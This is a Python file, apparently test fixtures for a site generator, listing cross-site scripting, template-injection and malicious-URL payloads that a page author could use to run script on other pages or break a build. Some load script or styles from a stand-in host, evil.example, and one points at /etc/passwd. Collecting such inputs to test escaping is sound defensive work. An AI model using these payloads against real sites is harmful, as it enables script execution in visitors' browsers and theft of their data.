"""What an author of a page could write to run something on the pages of others, or to break the build of a site."""

ATTRIBUTES = (
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", '" autofocus onfocus=alert(1) x="', "x onerror=alert(1)",
    '"style="animation:x" onanimationstart="alert(1)', "' accesskey='x' onclick='alert(1)", '"/onload=alert(1)//', "\tonload=alert(1)",
    '">', "'>", "`>", '"/>', "&quot; onload=alert(1) &quot;", "&#34;onload=alert(1)&#34;", '\\" onload=alert(1) \\"', "\\' onload=alert(1)",
)  # fmt: skip
ELEMENTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><button>x", "<base href=//evil.example/>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import'//evil.example'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>", "<isindex action=javascript:alert(1)>",
    "<xss onpointerenter=alert(1)>", "<p/onclick=alert(1)>", "<<script>alert(1)//<</script>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert(1)//",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><x onload=alert(1)/>", "<!DOCTYPE x>",
)  # fmt: skip
CLOSINGS = (
    "</script><script>alert(1)</script>", "</title><img src=x onerror=alert(1)>", "</style><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>", "</template><img src=x onerror=alert(1)>", "</aside></article></main></body></html>",
    "</li></ul></details></div></section>", "--><img src=x onerror=alert(1)>", "<!-- indexer:end --><img src=x onerror=alert(1)>",
    "<!-- indexer:begin -->", "]]><img src=x onerror=alert(1)>", "*/alert(1)/*", "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "`;alert(1)//",
    "\\u003cimg src=x onerror=alert(1)\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{{constructor.constructor('alert(1)')()}}", "{{ '</script>' | safe }}", "{{{ 7 * 7 }}}", "{{", "}}", "{{{", "{% raw %}", "{% endraw %}",
    "{% include 'x' %}", "{% for x in y %}", "{% if", "%}", "{# comment", "{{- 7 -}}", "{{< x >}}", "{{% x %}}", "{{ .Site }}", "{{ define \"main\" }}", "{{ end }}",
    "<% alert(1) %>", "<%= 7 * 7 %>", "<%- x %>", "<%", "${alert(1)}", "`${alert(1)}`", "#{alert(1)}", "{alert(1)}", "{7*7}", "{/* x", "{...props}", "<>x</>",
    "<X />", "export const x = alert(1)", "import x from 'evil'", "{@html '<img src=x onerror=alert(1)>'}", "{#if true}", "<slot />", "v-html=\"'x'\"",
    "<div v-html=\"alert(1)\">", "@click=\"alert(1)\"", ":href=\"'javascript:alert(1)'\"", "set:html={alert(1)}", "[x](javascript:alert(1))", "![x](x \"onerror=alert(1)\")",
    ":::danger", "---", "+++", "$\\href{javascript:alert(1)}{x}$", "@@page@@", "[[x]]", "import.meta.env.MODE", "process.env.NODE_ENV", "__VP_HASH_MAP__", "%s %d %(x)s",
)  # fmt: skip
ODD = ("\\", "\\\\", "a\\", "'", '"', "`", "$&$1$`", "\u2028x\u2029", "\ufeffx", "😀", "null", "true", "__proto__", "constructor", "~", "- x: y", "? x", "&a *a", "!!python/object:x")
PAYLOADS = (*ATTRIBUTES, *ELEMENTS, *CLOSINGS, *TEMPLATES, *ODD)
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "//evil.example/x", "/\\evil.example", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)", "file:///etc/passwd", "blob:x", "https://[", "view-source:x", "http:evil", "javascript://x%0Aalert(1)", "x\" onclick=\"alert(1)",
)  # fmt: skip
